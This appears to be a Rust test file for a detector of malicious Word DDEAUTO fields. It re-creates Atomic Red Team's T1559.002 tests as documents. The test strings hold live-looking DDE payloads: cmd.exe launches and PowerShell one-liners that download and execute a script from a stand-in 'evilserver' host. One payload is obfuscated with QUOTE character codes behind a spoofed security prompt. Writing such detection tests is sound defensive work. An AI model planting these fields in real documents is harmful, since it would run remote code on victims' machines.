//! The three tests of Atomic Red Team for ATT&CK T1559.002, by their GUIDs, as published in
//! `atomics/T1559.002/T1559.002.md`.

mod support;

use ddetect::{Finding, Kind, Report, Severity, Verdict};
use support::docx::{begin, docx, end, field, instruction, paragraph, separate, simple, text};
use support::{analyze, dde, techniques};

/// A field whose text has fields in braces within it.
fn nested(code: &str) -> String {
    let mut runs = String::new();
    for (depth, piece) in code.split('{').enumerate() {
        let (inner, outer) = match piece.split_once('}') {
            Some((inner, outer)) if depth > 0 => (Some(inner), outer),
            _ => (None, piece),
        };
        if let Some(inner) = inner {
            runs += &format!("{}{}{}{}", begin(), instruction(inner), separate(), end());
        }
        runs += &instruction(outer);
    }
    paragraph(&field(&runs))
}

/// The images of the command and of all that it starts, in order.
fn chain(finding: &Finding) -> Vec<String> {
    fn walk(stages: &[ddetect::Stage], images: &mut Vec<String>) {
        for stage in stages {
            images.push(stage.image.clone().unwrap_or_default());
            walk(&stage.stages, images);
        }
    }
    let command = finding.command.as_ref().unwrap();
    let mut images = vec![command.image.clone().unwrap_or_default()];
    walk(&command.stages, &mut images);
    images
}

#[track_caller]
fn one(report: &Report) -> &Finding {
    let found = dde(report);
    assert_eq!(found.len(), 1, "{report:#?}");
    assert_eq!(found[0].kind, Kind::DdeAuto);
    assert_eq!(found[0].severity, Severity::Critical);
    assert!(found[0].attack.contains(&"T1559.002"));
    assert_eq!(report.verdict(), Verdict::Malicious);
    assert!(report.complete(), "{:?}", report.gaps());
    found[0]
}

/// The kind as in the report, from its name.
fn kind_of(indicator: &ddetect::Indicator) -> String {
    format!("{:?}", indicator.kind).to_lowercase()
}

#[track_caller]
fn names(finding: &Finding, kind: &str, value: &str) {
    let mut known = finding.indicators.iter();
    assert!(
        known.any(|known| kind_of(known) == kind && known.value == value),
        "{kind} {value}: {:?}",
        finding.indicators
    );
}

/// f592ba2a-e9e8-4d62-a459-ef63abd819fd, "Execute Commands".
#[test]
fn f592ba2a_execute_commands() {
    let code = r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"  "#;
    let report = analyze(&docx(&simple(code)).build());
    let finding = one(&report);
    assert_eq!(
        finding.service.as_deref(),
        Some(r"c:\windows\system32\cmd.exe")
    );
    assert_eq!(finding.topic.as_deref(), Some("/k calc.exe"));
    assert_eq!(chain(finding), ["cmd.exe", "calc.exe"]);
}

/// 47c21fb6-085e-4b0d-b4d2-26d72c3830b3, "Execute PowerShell script via Word DDE": the fields of
/// `bin/DDE_Document.docx`, split over runs as there.
#[test]
fn t47c21fb6_execute_powershell_script_via_word_dde() {
    let live = [
        r#" DDEAUTO c:\\Windows\\System32\\cmd.exe "/k powershell.exe $e=(New-Object System.Net.WebClient).DownloadString('https://raw.githubusercontent.com/"#,
        " ",
        "redcanaryco",
        "/atomic-red-team/T1173-Execute-PowerShell-Script-via-Word-",
        r#"DDE/atomics/T1173/src/PowerShell_Script_For_DDE_Document.ps1');powershell -e $e ""#,
    ];
    let lost = [
        " ",
        r#"System32\\cmd.exe "/k powershell.exe -NoP -sta -NonI -W Hidden $e=(New-Object System.Net.WebClient).DownloadString('http://evilserver."#,
        "asdfasfd",
        " ",
        r#"/pp.ps1');powershell -e $e ""#,
    ];
    let typed = [
        " ",
        r#"{ DDEAUTO c:\\Windows\\System32\\cmd.exe "/k powershell.exe -NoP -sta -NonI -W Hidden $e=(New-Object System.Net.WebClient).DownloadString('http://evilserver.nja/pp.ps1');powershell -e $e "}"#,
        " ",
    ];
    let body: String = [&live[..], &lost[..], &typed[..]]
        .iter()
        .map(|pieces| {
            let runs: String = pieces.iter().map(|piece| instruction(piece)).collect();
            let result = text("!Unexpected End of Formula");
            paragraph(&format!("{}{runs}{}{result}{}", begin(), separate(), end()))
        })
        .collect();
    let report = analyze(&docx(&body).build());
    let finding = one(&report);
    assert_eq!(
        finding.service.as_deref(),
        Some(r"c:\Windows\System32\cmd.exe")
    );
    let images = chain(finding);
    assert_eq!(images[..2], ["cmd.exe", "powershell.exe"], "{images:?}");
    let place = finding.location.to_string();
    assert!(place.contains("field 1"), "{place}");
    for other in report.findings() {
        if other != finding {
            assert_eq!(other.kind, Kind::Inert, "{other:#?}");
            assert!(other.severity <= Severity::Low, "{other:#?}");
        }
    }
    assert!(report.findings().len() <= 3);
}

/// cf91174c-4e74-414e-bec0-8d60a104d181, "DDEAUTO": the first of its two fields.
#[test]
fn cf91174c_ddeauto_of_sensepost() {
    let code = r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#;
    let report = analyze(&docx(&simple(code)).build());
    assert_eq!(chain(one(&report)), ["cmd.exe", "calc.exe"]);
}

/// The same test's line of Unicorn: the folder, the program and `iex` are QUOTE fields.
#[test]
fn cf91174c_ddeauto_of_unicorn_resolves_in_full() {
    let code = r#"DDEAUTO "C:\\Programs\\Microsoft\\Office\\MSWord\\..\\..\\..\\..\\windows\\system32\\{ QUOTE 87 105 110 100 111 119 115 80 111 119 101 114 83 104 101 108 108 }\\v1.0\\{ QUOTE 112 111 119 101 114 115 104 101 108 108 46 101 120 101 } -w 1 -nop { QUOTE 105 101 120 }(New-Object System.Net.WebClient).DownloadString('http://example.com/download.ps1'); # " "Microsoft Document Security Add-On""#;
    let report = analyze(&docx(&nested(code)).build());
    let finding = one(&report);
    assert_eq!(
        finding.service.as_deref(),
        Some(
            "C:\\Programs\\Microsoft\\Office\\MSWord\\..\\..\\..\\..\\windows\\system32\\\
             WindowsPowerShell\\v1.0\\powershell.exe -w 1 -nop iex(New-Object \
             System.Net.WebClient).DownloadString('http://example.com/download.ps1'); # "
        )
    );
    assert_eq!(
        finding.topic.as_deref(),
        Some("Microsoft Document Security Add-On")
    );
    let command = finding.command.as_ref().unwrap();
    assert_eq!(command.image.as_deref(), Some("powershell.exe"));
    let script = command.script.as_deref().unwrap_or_default();
    assert!(script.contains("Invoke-Expression"), "{command:#?}");
    assert!(script.contains("DownloadString"), "{command:#?}");
    names(finding, "url", "http://example.com/download.ps1");
    let used = techniques(finding);
    for technique in ["quote-codes", "path-traversal", "prompt-spoof"] {
        assert!(used.contains(&technique), "{technique}: {used:?}");
    }
}
